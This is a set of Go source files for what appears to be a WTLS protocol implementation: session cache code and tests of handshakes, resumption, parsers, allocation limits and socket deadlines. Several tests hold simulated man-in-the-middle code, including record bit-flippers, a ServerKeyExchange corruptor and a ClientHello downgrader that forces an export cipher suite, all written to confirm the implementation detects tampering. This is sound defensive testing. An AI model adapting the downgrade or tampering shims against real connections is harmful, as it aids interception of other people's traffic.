		t.Fatal("first handshake cannot be resumed")
	}
	c2, s2 := run()
	if !c2.State().Resumed || !s2.State().Resumed {
		t.Fatal("second handshake should resume")
	}
	if !bytes.Equal(c1.State().SessionID, c2.State().SessionID) {
		t.Fatal("resumed session ID differs")
	}
	// Resumed handshake must be drastically cheaper.
	full := c1.Metrics().HandshakeInstr
	res := c2.Metrics().HandshakeInstr
	if res*10 > full {
		t.Fatalf("resumption instr %v not ≪ full %v", res, full)
	}
	roundtrip(t, c2, s2, []byte("resumed traffic"))
}

func TestMetricsAccrue(t *testing.T) {
	client, server, _ := handshakePair(t, clientConfig(t), serverConfig(t))
	msg := bytes.Repeat([]byte("x"), 1000)
	roundtrip(t, client, server, msg)
	m := client.Metrics()
	if m.FullHandshakes != 1 || m.HandshakeInstr <= 0 {
		t.Fatalf("handshake metrics wrong: %+v", m)
	}
	if m.AppBytesOut != 1000 || m.AppBytesIn != 1000 {
		t.Fatalf("app byte metrics wrong: %+v", m)
	}
	if m.BulkInstr <= 0 {
		t.Fatal("bulk instructions not accrued")
	}
}

func TestTamperedRecordDetected(t *testing.T) {
	cp, sp := bufferedPipe()
	client := Client(&corruptAfterHandshake{rw: cp}, clientConfig(t))
	server := Server(sp, serverConfig(t))
	srvErr := make(chan error, 1)
	srvRead := make(chan error, 1)
	go func() {
		srvErr <- server.Handshake()
		buf := make([]byte, 64)
		_, err := server.Read(buf)
		srvRead <- err
	}()
	if err := client.Handshake(); err != nil {
		t.Fatal(err)
	}
	if err := <-srvErr; err != nil {
		t.Fatal(err)
	}
	cc := client.conn.(*corruptAfterHandshake)
	cc.armed = true
	if _, err := client.Write([]byte("tamper me, 16B+")); err != nil {
		t.Fatal(err)
	}
	err := <-srvRead
	if err == nil {
		t.Fatal("server accepted a tampered record")
	}
}

// corruptAfterHandshake flips a bit in the record body of writes once
// armed, simulating an on-air attacker.
type corruptAfterHandshake struct {
	rw    io.ReadWriter
	armed bool
}

func (c *corruptAfterHandshake) Read(p []byte) (int, error) { return c.rw.Read(p) }

func (c *corruptAfterHandshake) Write(p []byte) (int, error) {
	if c.armed && len(p) > 5 {
		q := append([]byte{}, p...)
		q[len(q)-1] ^= 0x80
		return c.rw.Write(q)
	}
	return c.rw.Write(p)
}

func TestCloseNotify(t *testing.T) {
	client, server, _ := handshakePair(t, clientConfig(t), serverConfig(t))
	done := make(chan error, 1)
	go func() {
		buf := make([]byte, 16)
		_, err := server.Read(buf)
		done <- err
	}()
	if err := client.Close(); err != nil {
		t.Fatal(err)
	}
	if err := <-done; err != io.EOF {
		t.Fatalf("server Read after close_notify = %v, want io.EOF", err)
	}
	if _, err := client.Write([]byte("x")); err == nil {
		t.Fatal("write after close succeeded")
	}
}

func TestLargeTransferFragments(t *testing.T) {
	client, server, _ := handshakePair(t, clientConfig(t), serverConfig(t))
	big := make([]byte, 3*maxRecordPayload+777)
	for i := range big {
		big[i] = byte(i * 7)
	}
	done := make(chan error, 1)
	go func() {
		got := make([]byte, len(big))
		if _, err := io.ReadFull(server, got); err != nil {
			done <- err
			return
		}
		if !bytes.Equal(got, big) {
			done <- errors.New("large transfer corrupted")
			return
		}
		done <- nil
	}()
	if _, err := client.Write(big); err != nil {
		t.Fatal(err)
	}
	if err := <-done; err != nil {
		t.Fatal(err)
	}
	if client.Metrics().RecordsSent < 4 {
		t.Fatal("large write should span multiple records")
	}
}

func TestHandshakeRequiresRand(t *testing.T) {
	cp, _ := bufferedPipe()
	c := Client(cp, &Config{})
	if err := c.Handshake(); err == nil {
		t.Fatal("handshake without Rand succeeded")
	}
}

func TestCertificateRoundtrip(t *testing.T) {
	_, _, cert := testPKI(t)
	enc := cert.Marshal()
	dec, err := UnmarshalCertificate(enc)
	if err != nil {
		t.Fatal(err)
	}
	if dec.Subject != cert.Subject || dec.Issuer != cert.Issuer ||
		dec.Serial != cert.Serial || dec.PublicKey.N.Cmp(cert.PublicKey.N) != 0 {
		t.Fatal("certificate roundtrip lost fields")
	}
	if _, err := UnmarshalCertificate(enc[:10]); err == nil {
		t.Fatal("accepted truncated certificate")
	}
	if _, err := UnmarshalCertificate(append(enc, 0xff)); err == nil {
		t.Fatal("accepted certificate with trailing bytes")
	}
}

func TestCertificateTamperDetected(t *testing.T) {
	ca, _, cert := testPKI(t)
	evil := *cert
	evil.Subject = "evil.example"
	if err := evil.Verify(&ca.Key.PublicKey, ""); err == nil {
		t.Fatal("subject tamper not detected")
	}
}

func TestPRFProperties(t *testing.T) {
	a := prf([]byte("secret"), "label", []byte("seed"), 40)
	b := prf([]byte("secret"), "label", []byte("seed"), 40)
	if !bytes.Equal(a, b) {
		t.Fatal("PRF not deterministic")
	}
	if bytes.Equal(a, prf([]byte("secret2"), "label", []byte("seed"), 40)) {
		t.Fatal("PRF ignores secret")
	}
	if bytes.Equal(a, prf([]byte("secret"), "label2", []byte("seed"), 40)) {
		t.Fatal("PRF ignores label")
	}
	if bytes.Equal(a, prf([]byte("secret"), "label", []byte("seed2"), 40)) {
		t.Fatal("PRF ignores seed")
	}
	long := prf([]byte("s"), "l", []byte("x"), 100)
	if !bytes.Equal(long[:40], prf([]byte("s"), "l", []byte("x"), 40)) {
		t.Fatal("PRF prefix property violated")
	}
}

func TestKeyDerivationSeparation(t *testing.T) {
	master := []byte("0123456789012345678901234567890123456789ажabcdef")[:48]
	cr := bytes.Repeat([]byte{1}, 32)
	sr := bytes.Repeat([]byte{2}, 32)
	km := deriveKeys(master, cr, sr, 20, 24, 8)
	if bytes.Equal(km.clientMAC, km.serverMAC) || bytes.Equal(km.clientKey, km.serverKey) {
		t.Fatal("directional keys must differ")
	}
	if len(km.clientIV) != 8 || len(km.serverIV) != 8 {
		t.Fatal("IV lengths wrong")
	}
	km2 := deriveKeys(master, sr, cr, 20, 24, 8) // swapped randoms
	if bytes.Equal(km.clientKey, km2.clientKey) {
		t.Fatal("key block ignores random ordering")
	}
}

// TestDHEServerKeyExchangeTamper: a man-in-the-middle replacing the DH
// parameters without the server key cannot produce a valid signature.
func TestDHEServerKeyExchangeTamper(t *testing.T) {
	cp, sp := bufferedPipe()
	scfg := serverConfig(t)
	scfg.Suites = []uint16{0x0016}
	scfg.DHGroup = testDHGroup(t)
	ccfg := clientConfig(t)
	ccfg.Suites = []uint16{0x0016}
	client := Client(&skxCorruptor{rw: cp}, ccfg)
	server := Server(sp, scfg)
	srvErr := make(chan error, 1)
	go func() { srvErr <- server.Handshake() }()
	if err := client.Handshake(); err == nil {
		t.Fatal("client accepted tampered DH parameters")
	}
	<-srvErr
}

// skxCorruptor flips a bit inside the 3rd record the client reads (the
// ServerKeyExchange in the DHE flight: hello, cert, skx). It parses the
// record framing in the byte stream, so it is independent of how the
// reader chunks its transport reads.
type skxCorruptor struct {
	rw     io.ReadWriter
	rec    int // records whose header has been seen
	hdr    int // header bytes of the current record consumed
	remain int // body bytes of the current record remaining
	hi, lo byte
	done   bool
}

func (c *skxCorruptor) Write(p []byte) (int, error) { return c.rw.Write(p) }

func (c *skxCorruptor) Read(p []byte) (int, error) {
	n, err := c.rw.Read(p)
	buf := p[:n]
	for len(buf) > 0 {
		if c.remain == 0 && c.hdr < 5 {
			switch c.hdr {
			case 3:
				c.hi = buf[0]
			case 4:
				c.lo = buf[0]
			}
			c.hdr++
			buf = buf[1:]
			if c.hdr == 5 {
				c.rec++
				c.remain = int(c.hi)<<8 | int(c.lo)
				c.hdr = 0
			}
			continue
		}
		span := c.remain
		if span > len(buf) {
			span = len(buf)
		}
		if c.rec == 3 && !c.done && span > 0 {
			buf[span/2] ^= 0x40
			c.done = true
		}
		c.remain -= span
		buf = buf[span:]
	}
	return n, err
}

// TestResumptionSkippedWhenSuiteNotOffered: a cached session whose suite
// the client no longer offers falls back to a full handshake.
func TestResumptionSkippedWhenSuiteNotOffered(t *testing.T) {
	clientCache := NewSessionCache()
	serverCache := NewSessionCache()
	run := func(suites []uint16) *Conn {
		scfg := serverConfig(t)
		scfg.SessionCache = serverCache
		ccfg := clientConfig(t)
		ccfg.SessionCache = clientCache
		ccfg.Suites = suites
		c, _, _ := handshakePair(t, ccfg, scfg)
		return c
	}
	c1 := run([]uint16{0x0004}) // RC4_128_MD5
	if c1.State().Resumed {
		t.Fatal("first handshake resumed")
	}
	c2 := run([]uint16{0x000A}) // now only 3DES offered
	if c2.State().Resumed {
		t.Fatal("resumed a session whose suite is no longer offered")
	}
	if c2.State().Suite.ID != 0x000A {
		t.Fatalf("negotiated %#04x", c2.State().Suite.ID)
	}
}

// TestSessionCacheLen sanity-checks the cache bookkeeping.
func TestSessionCacheLen(t *testing.T) {
	cache := NewSessionCache()
	if cache.Len() != 0 {
		t.Fatal("fresh cache not empty")
	}
	scfg := serverConfig(t)
	scfg.SessionCache = cache
	ccfg := clientConfig(t)
	handshakePair(t, ccfg, scfg)
	if cache.Len() != 1 {
		t.Fatalf("server cache has %d sessions, want 1", cache.Len())
	}
}

// TestDowngradeAttackDetected: a man-in-the-middle rewrites the client's
// offered suite list to force the weak export suite. The hellos are
// unauthenticated in flight, but both Finished messages MAC the
// *transcript each side saw*, so the tampering must surface before any
// application data flows.
func TestDowngradeAttackDetected(t *testing.T) {
	cp, sp := bufferedPipe()
	ccfg := clientConfig(t)
	ccfg.Suites = []uint16{0x002F, 0x0003} // strong preferred, export offered
	scfg := serverConfig(t)
	client := Client(&downgrader{rw: cp}, ccfg)
	server := Server(sp, scfg)
	srvErr := make(chan error, 1)
	go func() { srvErr <- server.Handshake() }()
	cerr := client.Handshake()
	serr := <-srvErr
	if cerr == nil && serr == nil {
		// Both sides finished: the downgrade must NOT have taken hold.
		if client.State().Suite.ID == 0x0003 {
			t.Fatal("MITM successfully downgraded the connection")
		}
		return
	}
	// Expected: the handshake fails (Finished mismatch / alert).
}

// downgrader rewrites the first record (the ClientHello) so that only the
// export suite 0x0003 is offered.
type downgrader struct {
	rw   io.ReadWriter
	done bool
}

func (d *downgrader) Read(p []byte) (int, error) { return d.rw.Read(p) }

func (d *downgrader) Write(p []byte) (int, error) {
	if !d.done && len(p) > 5 && p[0] == recordHandshake {
		d.done = true
		frag := p[5:]
		if t, body, err := splitHandshake(frag); err == nil && t == typeClientHello {
			if ch, err := parseClientHello(body); err == nil {
				ch.suites = []uint16{0x0003}
				forged := ch.marshal()
				hdr := []byte{recordHandshake, p[1], p[2], byte(len(forged) >> 8), byte(len(forged))}
				if _, err := d.rw.Write(append(hdr, forged...)); err != nil {
					return 0, err
				}
				return len(p), nil
			}
		}
	}
	return d.rw.Write(p)
}
