package wtls

import (
	"container/list"
	"sync"
	"time"

	"repro/internal/obs"
)

// mSessionEvictions counts sessions dropped by LRU pressure or TTL
// expiry (not overwrites of an existing key).
var mSessionEvictions = obs.C("wtls.session_evictions")

// sessionShards stripes the cache locks. A gateway resuming millions of
// sessions hits the cache on every handshake from every worker; 16
// independently-locked shards keep that traffic from serializing on one
// mutex while staying small enough to iterate for Len.
const sessionShards = 16

// SessionCache stores resumable sessions, keyed by server name on
// clients and by session ID on servers. It is sharded by key hash with
// per-shard locks, and optionally bounds its size (LRU eviction) and
// entry age (TTL). The zero limits — NewSessionCache — keep every entry
// forever, matching the pre-sharding semantics.
type SessionCache struct {
	maxEntries int           // total cap across shards; 0 = unlimited
	ttl        time.Duration // 0 = no expiry
	now        func() time.Time
	shards     [sessionShards]sessionShard
}

type sessionShard struct {
	mu  sync.Mutex
	m   map[string]*list.Element
	lru list.List // front = most recently used
}

type sessionEntry struct {
	key     string
	s       *session
	savedAt time.Time
}

// NewSessionCache creates an unbounded session cache (no TTL, no LRU
// cap).
func NewSessionCache() *SessionCache {
	return NewSessionCacheSized(0, 0)
}

// NewSessionCacheSized creates a session cache holding at most
// maxEntries sessions (0 = unlimited), each resumable for at most ttl
// after it was stored (0 = forever). Exceeding the cap evicts the least
// recently used entry.
func NewSessionCacheSized(maxEntries int, ttl time.Duration) *SessionCache {
	sc := &SessionCache{maxEntries: maxEntries, ttl: ttl, now: time.Now}
	for i := range sc.shards {
		sc.shards[i].m = make(map[string]*list.Element)
	}
	return sc
}

// shard picks the stripe for a key (FNV-1a).
func (sc *SessionCache) shard(key string) *sessionShard {
	h := uint32(2166136261)
	for i := 0; i < len(key); i++ {
		h ^= uint32(key[i])
		h *= 16777619
	}
	return &sc.shards[h%sessionShards]
}

// shardCap is the per-shard LRU bound implied by maxEntries.
func (sc *SessionCache) shardCap() int {
	if sc.maxEntries <= 0 {
		return 0
	}
	c := (sc.maxEntries + sessionShards - 1) / sessionShards
	if c < 1 {
		c = 1
	}
	return c
}

func (sc *SessionCache) put(key string, s *session) {
	sh := sc.shard(key)
	sh.mu.Lock()
	defer sh.mu.Unlock()
	if el, ok := sh.m[key]; ok {
		ent := el.Value.(*sessionEntry)
		ent.s = s
		ent.savedAt = sc.now()
		sh.lru.MoveToFront(el)
		return
	}
	sh.m[key] = sh.lru.PushFront(&sessionEntry{key: key, s: s, savedAt: sc.now()})
	if limit := sc.shardCap(); limit > 0 && sh.lru.Len() > limit {
		oldest := sh.lru.Back()
		ent := oldest.Value.(*sessionEntry)
		sh.lru.Remove(oldest)
		delete(sh.m, ent.key)
		mSessionEvictions.Inc()
	}
}

func (sc *SessionCache) get(key string) *session {
	sh := sc.shard(key)
	sh.mu.Lock()
	defer sh.mu.Unlock()
	el, ok := sh.m[key]
	if !ok {
		return nil
	}
	ent := el.Value.(*sessionEntry)
	if sc.ttl > 0 && sc.now().Sub(ent.savedAt) >= sc.ttl {
		sh.lru.Remove(el)
		delete(sh.m, key)
		mSessionEvictions.Inc()
		return nil
	}
	sh.lru.MoveToFront(el)
	return ent.s
}

// Size reports the number of cached sessions. Expired entries that have
// not been touched since their TTL elapsed still count; they are
// reclaimed lazily on access.
func (sc *SessionCache) Size() int {
	n := 0
	for i := range sc.shards {
		sh := &sc.shards[i]
		sh.mu.Lock()
		n += len(sh.m)
		sh.mu.Unlock()
	}
	return n
}

// Len reports the number of cached sessions (alias of Size, kept for
// existing callers).
func (sc *SessionCache) Len() int { return sc.Size() }
