package wtls

import (
	"bytes"
	"math/big"
	"testing"
	"testing/quick"
)

// TestClientHelloRoundtrip: marshal/parse identity via testing/quick.
func TestClientHelloRoundtrip(t *testing.T) {
	f := func(random [32]byte, sessionID []byte, suites []uint16) bool {
		if len(sessionID) > 255 {
			sessionID = sessionID[:255]
		}
		if len(suites) > 100 {
			suites = suites[:100]
		}
		m := &clientHello{random: random[:], sessionID: sessionID, suites: suites}
		wire := m.marshal()
		typ, body, err := splitHandshake(wire)
		if err != nil || typ != typeClientHello {
			return false
		}
		got, err := parseClientHello(body)
		if err != nil {
			return false
		}
		if !bytes.Equal(got.random, m.random) || !bytes.Equal(got.sessionID, m.sessionID) {
			return false
		}
		if len(got.suites) != len(m.suites) {
			return false
		}
		for i := range m.suites {
			if got.suites[i] != m.suites[i] {
				return false
			}
		}
		return true
	}
	if err := quick.Check(f, nil); err != nil {
		t.Fatal(err)
	}
}

func TestServerHelloRoundtrip(t *testing.T) {
	f := func(random [32]byte, sessionID []byte, suiteID uint16, resumed bool) bool {
		if len(sessionID) > 255 {
			sessionID = sessionID[:255]
		}
		m := &serverHello{random: random[:], sessionID: sessionID, suite: suiteID, resumed: resumed}
		_, body, err := splitHandshake(m.marshal())
		if err != nil {
			return false
		}
		got, err := parseServerHello(body)
		if err != nil {
			return false
		}
		return bytes.Equal(got.random, m.random) && bytes.Equal(got.sessionID, m.sessionID) &&
			got.suite == m.suite && got.resumed == m.resumed
	}
	if err := quick.Check(f, nil); err != nil {
		t.Fatal(err)
	}
}

func TestServerKeyExchangeRoundtrip(t *testing.T) {
	f := func(p, g, ys uint64, sig []byte) bool {
		m := &serverKeyExchange{
			p:         new(big.Int).SetUint64(p),
			g:         new(big.Int).SetUint64(g),
			ys:        new(big.Int).SetUint64(ys),
			signature: sig,
		}
		_, body, err := splitHandshake(m.marshal())
		if err != nil {
			return false
		}
		got, err := parseServerKeyExchange(body)
		if err != nil {
			return false
		}
		return got.p.Cmp(m.p) == 0 && got.g.Cmp(m.g) == 0 && got.ys.Cmp(m.ys) == 0 &&
			bytes.Equal(got.signature, m.signature)
	}
	if err := quick.Check(f, nil); err != nil {
		t.Fatal(err)
	}
}

// TestParsersNeverPanic: arbitrary bytes must yield an error, never a
// panic — the malformed-input robustness the record layer depends on.
func TestParsersNeverPanic(t *testing.T) {
	f := func(junk []byte) bool {
		// Each parser either errors or returns; panics fail the test
		// via the harness.
		parseClientHello(junk)       //nolint:errcheck
		parseServerHello(junk)       //nolint:errcheck
		parseCertificateMsg(junk)    //nolint:errcheck
		parseServerKeyExchange(junk) //nolint:errcheck
		parseClientKeyExchange(junk) //nolint:errcheck
		parseFinished(junk)          //nolint:errcheck
		splitHandshake(junk)         //nolint:errcheck
		UnmarshalCertificate(junk)   //nolint:errcheck
		return true
	}
	if err := quick.Check(f, nil); err != nil {
		t.Fatal(err)
	}
}

func TestParseRejectsTrailingBytes(t *testing.T) {
	m := &clientHello{random: make([]byte, 32), suites: []uint16{1}}
	_, body, _ := splitHandshake(m.marshal())
	if _, err := parseClientHello(append(body, 0xAA)); err == nil {
		t.Fatal("client hello accepted trailing bytes")
	}
	sh := &serverHello{random: make([]byte, 32), sessionID: []byte{1}, suite: 2}
	_, body2, _ := splitHandshake(sh.marshal())
	if _, err := parseServerHello(append(body2, 0x00)); err == nil {
		t.Fatal("server hello accepted trailing bytes")
	}
}

func TestSplitHandshakeLengthMismatch(t *testing.T) {
	wire := wrapHandshake(typeFinished, make([]byte, finishedLen))
	if _, _, err := splitHandshake(wire[:len(wire)-1]); err == nil {
		t.Fatal("accepted truncated handshake frame")
	}
	if _, _, err := splitHandshake(append(wire, 1)); err == nil {
		t.Fatal("accepted oversized handshake frame")
	}
}

// TestWireCodecPrimitives exercises the builder/parser pairs directly.
func TestWireCodecPrimitives(t *testing.T) {
	f := func(a uint8, b uint16, c uint64, s string, raw []byte) bool {
		if len(raw) > 1<<15 {
			raw = raw[:1<<15]
		}
		var bld builder
		bld.addUint8(a)
		bld.addUint16(b)
		bld.addUint64(c)
		bld.addString(s)
		bld.addBytes16(raw)
		bld.addUint24(int(b))
		p := parser{buf: bld.bytes()}
		var ga uint8
		var gb uint16
		var gc uint64
		var gs string
		var graw []byte
		var g24 int
		ok := p.readUint8(&ga) && p.readUint16(&gb) && p.readUint64(&gc) &&
			p.readString(&gs) && p.readBytes16(&graw) && p.readUint24(&g24) && p.empty()
		return ok && ga == a && gb == b && gc == c && gs == s &&
			bytes.Equal(graw, raw) && g24 == int(b)
	}
	if err := quick.Check(f, nil); err != nil {
		t.Fatal(err)
	}
}
