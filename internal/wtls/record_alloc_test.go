package wtls

import (
	"bytes"
	"testing"

	"repro/internal/suite"
)

// enabledPair returns seal/open half connections armed with identical
// keys, so records sealed by one open cleanly on the other.
func enabledPair(t testing.TB, suiteID uint16) (*halfConn, *halfConn) {
	t.Helper()
	s, err := suite.ByID(suiteID)
	if err != nil {
		t.Fatal(err)
	}
	macKey := make([]byte, s.MACKeyLen)
	key := make([]byte, s.KeyLen)
	iv := make([]byte, s.IVLen)
	for i := range macKey {
		macKey[i] = byte(i + 1)
	}
	for i := range key {
		key[i] = byte(i + 101)
	}
	for i := range iv {
		iv[i] = byte(i + 201)
	}
	var seal, open halfConn
	if err := seal.enable(s, macKey, key, iv); err != nil {
		t.Fatal(err)
	}
	if err := open.enable(s, macKey, key, iv); err != nil {
		t.Fatal(err)
	}
	return &seal, &open
}

// allocSuites are the 0-alloc-pinned representatives: one stream suite
// and both block sizes (8-byte 3DES, 16-byte AES).
var allocSuites = []struct {
	name string
	id   uint16
}{
	{"RC4_128_SHA_stream", 0x0005},
	{"3DES_EDE_CBC_SHA_block", 0x000A},
	{"AES_128_CBC_SHA_block", 0x002F},
}

// TestSealOpenZeroAllocs pins the steady-state record path at exactly 0
// allocations per sealed-and-opened record for stream and block suites —
// the invariant the aggregate-throughput benchmark depends on.
func TestSealOpenZeroAllocs(t *testing.T) {
	for _, tc := range allocSuites {
		t.Run(tc.name, func(t *testing.T) {
			seal, open := enabledPair(t, tc.id)
			payload := bytes.Repeat([]byte{0x5a}, 1024)
			roundtrip := func() {
				wire, err := seal.sealOne(recordApplicationData, payload)
				if err != nil {
					t.Fatal(err)
				}
				got, err := open.unprotect(recordApplicationData, wire[recordHeaderLen:])
				if err != nil {
					t.Fatal(err)
				}
				if !bytes.Equal(got, payload) {
					t.Fatal("roundtrip mismatch")
				}
			}
			// Warm the reusable scratch to its working size first.
			for i := 0; i < 4; i++ {
				roundtrip()
			}
			if allocs := testing.AllocsPerRun(200, roundtrip); allocs != 0 {
				t.Fatalf("seal+open allocates %.1f allocs/op, want 0", allocs)
			}
		})
	}
}

// TestSealBatchZeroAllocs pins the batched path: sealing and opening a
// full batch must not allocate either, including the wire-buffer parse
// back into per-record fragments.
func TestSealBatchZeroAllocs(t *testing.T) {
	for _, tc := range allocSuites {
		t.Run(tc.name, func(t *testing.T) {
			seal, open := enabledPair(t, tc.id)
			payload := bytes.Repeat([]byte{0x33}, 512)
			payloads := make([][]byte, maxRecordsPerBatch)
			for i := range payloads {
				payloads[i] = payload
			}
			frags := make([][]byte, 0, maxRecordsPerBatch)
			batch := func() {
				wire, err := seal.SealBatch(recordApplicationData, payloads)
				if err != nil {
					t.Fatal(err)
				}
				frags = frags[:0]
				for off := 0; off < len(wire); {
					n := int(wire[off+3])<<8 | int(wire[off+4])
					frags = append(frags, wire[off+recordHeaderLen:off+recordHeaderLen+n])
					off += recordHeaderLen + n
				}
				if len(frags) != len(payloads) {
					t.Fatalf("parsed %d records, want %d", len(frags), len(payloads))
				}
				out, err := open.OpenBatch(recordApplicationData, frags)
				if err != nil {
					t.Fatal(err)
				}
				if len(out) != len(payload)*len(payloads) {
					t.Fatalf("batch opened %d bytes, want %d", len(out), len(payload)*len(payloads))
				}
			}
			for i := 0; i < 4; i++ {
				batch()
			}
			if allocs := testing.AllocsPerRun(100, batch); allocs != 0 {
				t.Fatalf("SealBatch+OpenBatch allocates %.1f allocs/op, want 0", allocs)
			}
		})
	}
}

// TestNullSuiteUnprotectZeroAllocs covers the pre-handshake NULL path:
// unprotect on a disabled half connection must hand back the bytes from
// its reusable scratch, not a fresh copy per record.
func TestNullSuiteUnprotectZeroAllocs(t *testing.T) {
	var hc halfConn
	sealed := bytes.Repeat([]byte{0x77}, 256)
	null := func() {
		got, err := hc.unprotect(recordHandshake, sealed)
		if err != nil {
			t.Fatal(err)
		}
		if !bytes.Equal(got, sealed) {
			t.Fatal("null unprotect mismatch")
		}
	}
	for i := 0; i < 4; i++ {
		null()
	}
	if allocs := testing.AllocsPerRun(200, null); allocs != 0 {
		t.Fatalf("null unprotect allocates %.1f allocs/op, want 0", allocs)
	}
}
