package wtls

import (
	"bytes"
	"errors"
	"io"
	"net"
	"os"
	"strings"
	"sync"
	"testing"
	"time"
)

// tcpPair returns connected loopback TCP ends — the real-socket
// counterpart of bufferedPipe.
func tcpPair(t *testing.T) (net.Conn, net.Conn) {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	type res struct {
		c   net.Conn
		err error
	}
	ch := make(chan res, 1)
	go func() {
		c, err := ln.Accept()
		ch <- res{c, err}
	}()
	cli, err := net.Dial("tcp", ln.Addr().String())
	if err != nil {
		t.Fatal(err)
	}
	r := <-ch
	if r.err != nil {
		cli.Close()
		t.Fatal(r.err)
	}
	t.Cleanup(func() { cli.Close(); r.c.Close() })
	return cli, r.c
}

// TestConcurrentReadWriteOneHandshake hammers both ends from reader and
// writer goroutines that race to trigger the lazy handshake. Exactly
// one full handshake may happen per side, and every byte must arrive
// intact. Run under -race this also proves the locking story.
func TestConcurrentReadWriteOneHandshake(t *testing.T) {
	rawC, rawS := tcpPair(t)
	client := Client(rawC, clientConfig(t))
	server := Server(rawS, serverConfig(t))

	const msgs = 32
	payload := bytes.Repeat([]byte{0x5A}, 700)

	var wg sync.WaitGroup
	errs := make(chan error, 4)
	echo := func(c *Conn) { // server side: read then write back
		defer wg.Done()
		buf := make([]byte, len(payload))
		for i := 0; i < msgs; i++ {
			if _, err := io.ReadFull(c, buf); err != nil {
				errs <- err
				return
			}
			if _, err := c.Write(buf); err != nil {
				errs <- err
				return
			}
		}
	}
	// Client writer and client reader start concurrently — both race to
	// perform the handshake.
	wg.Add(3)
	go echo(server)
	go func() {
		defer wg.Done()
		for i := 0; i < msgs; i++ {
			if _, err := client.Write(payload); err != nil {
				errs <- err
				return
			}
		}
	}()
	go func() {
		defer wg.Done()
		buf := make([]byte, len(payload))
		for i := 0; i < msgs; i++ {
			if _, err := io.ReadFull(client, buf); err != nil {
				errs <- err
				return
			}
			if !bytes.Equal(buf, payload) {
				errs <- errors.New("echo corrupted")
				return
			}
		}
	}()
	wg.Wait()
	close(errs)
	for err := range errs {
		t.Fatal(err)
	}
	for _, c := range []*Conn{client, server} {
		m := c.Metrics()
		if m.FullHandshakes != 1 || m.ResumedHandshakes != 0 {
			t.Fatalf("handshake count: full=%d resumed=%d, want exactly 1 full",
				m.FullHandshakes, m.ResumedHandshakes)
		}
	}
}

// TestNetConnDeadlines verifies deadline plumbing end to end: a read
// deadline on the WTLS conn surfaces as a net.Error timeout, and the
// connection is still usable for the error inspection contract.
func TestNetConnDeadlines(t *testing.T) {
	rawC, rawS := tcpPair(t)
	client := Client(rawC, clientConfig(t))
	server := Server(rawS, serverConfig(t))

	done := make(chan error, 1)
	go func() { done <- server.Handshake() }()
	if err := client.Handshake(); err != nil {
		t.Fatal(err)
	}
	if err := <-done; err != nil {
		t.Fatal(err)
	}

	if err := client.SetReadDeadline(time.Now().Add(30 * time.Millisecond)); err != nil {
		t.Fatal(err)
	}
	buf := make([]byte, 16)
	_, err := client.Read(buf)
	var ne net.Error
	if !errors.As(err, &ne) || !ne.Timeout() {
		t.Fatalf("read past deadline = %v, want net.Error with Timeout()", err)
	}
}

// TestHandshakeTimeout aborts a handshake against a silent peer via
// SetDeadline — the stalled-gateway scenario.
func TestHandshakeTimeout(t *testing.T) {
	rawC, _ := tcpPair(t) // server end never speaks
	client := Client(rawC, clientConfig(t))
	if err := client.SetDeadline(time.Now().Add(30 * time.Millisecond)); err != nil {
		t.Fatal(err)
	}
	err := client.Handshake()
	var ne net.Error
	if !errors.As(err, &ne) || !ne.Timeout() {
		t.Fatalf("handshake against silent peer = %v, want timeout", err)
	}
}

// TestDeadlineUnsupportedTransport: over a plain io.ReadWriter (the
// in-memory pipe) deadlines must fail with os.ErrNoDeadline, matching
// the net package convention.
func TestDeadlineUnsupportedTransport(t *testing.T) {
	cEnd, _ := bufferedPipe()
	c := Client(cEnd, clientConfig(t))
	if err := c.SetDeadline(time.Now()); !errors.Is(err, os.ErrNoDeadline) {
		t.Fatalf("SetDeadline over pipe = %v, want os.ErrNoDeadline", err)
	}
	if err := c.SetReadDeadline(time.Now()); !errors.Is(err, os.ErrNoDeadline) {
		t.Fatalf("SetReadDeadline over pipe = %v, want os.ErrNoDeadline", err)
	}
	if err := c.SetWriteDeadline(time.Now()); !errors.Is(err, os.ErrNoDeadline) {
		t.Fatalf("SetWriteDeadline over pipe = %v, want os.ErrNoDeadline", err)
	}
	// Addr placeholders must still be non-nil for net.Conn consumers.
	if c.LocalAddr() == nil || c.RemoteAddr() == nil {
		t.Fatal("nil addrs over pipe transport")
	}
}

// TestNetConnAddrs: over a real socket the addresses are the socket's.
func TestNetConnAddrs(t *testing.T) {
	rawC, _ := tcpPair(t)
	c := Client(rawC, clientConfig(t))
	if c.LocalAddr().String() != rawC.LocalAddr().String() ||
		c.RemoteAddr().String() != rawC.RemoteAddr().String() {
		t.Fatalf("addrs %v/%v do not match socket %v/%v",
			c.LocalAddr(), c.RemoteAddr(), rawC.LocalAddr(), rawC.RemoteAddr())
	}
}

// chunkWriter delivers at most n bytes per Write call — a transport
// that legally short-writes, like a serial link or a full socket
// buffer.
type chunkWriter struct {
	w io.Writer
	n int
}

func (cw *chunkWriter) Write(p []byte) (int, error) {
	if len(p) > cw.n {
		p = p[:cw.n]
	}
	return cw.w.Write(p)
}

// TestWriteRecordShortWrites proves writeRecord survives a transport
// that accepts one byte at a time: the record must arrive complete and
// parse back to the identical fragment.
func TestWriteRecordShortWrites(t *testing.T) {
	var sink bytes.Buffer
	frag := bytes.Repeat([]byte{0xC3}, 300)
	if err := writeRecord(&chunkWriter{w: &sink, n: 1}, recordApplicationData, frag); err != nil {
		t.Fatal(err)
	}
	typ, got, err := readRecord(&sink)
	if err != nil {
		t.Fatal(err)
	}
	if typ != recordApplicationData || !bytes.Equal(got, frag) {
		t.Fatalf("record reassembly failed: type %d, %d bytes", typ, len(got))
	}
}

// errAfterWriter accepts k bytes total, then fails.
type errAfterWriter struct {
	k int
}

func (w *errAfterWriter) Write(p []byte) (int, error) {
	if w.k <= 0 {
		return 0, errors.New("link down")
	}
	n := len(p)
	if n > w.k {
		n = w.k
	}
	w.k -= n
	if w.k == 0 {
		return n, errors.New("link down")
	}
	return n, nil
}

func TestWriteRecordPropagatesWriteError(t *testing.T) {
	err := writeRecord(&errAfterWriter{k: 3}, recordApplicationData, []byte("payload"))
	if err == nil || !strings.Contains(err.Error(), "link down") {
		t.Fatalf("mid-record failure = %v, want link down", err)
	}
}

// TestOversizedInboundRejected: a handshake length field claiming more
// than maxHandshakeMsg must produce a decode error, not an allocation.
func TestOversizedInboundRejected(t *testing.T) {
	if _, _, err := splitHandshake([]byte{typeClientHello, 0xFF, 0xFF, 0xFF}); err == nil {
		t.Fatal("16MiB handshake length accepted")
	}
	var r bytes.Buffer
	r.Write([]byte{recordHandshake, 0x03, 0x01, 0xFF, 0xFF})
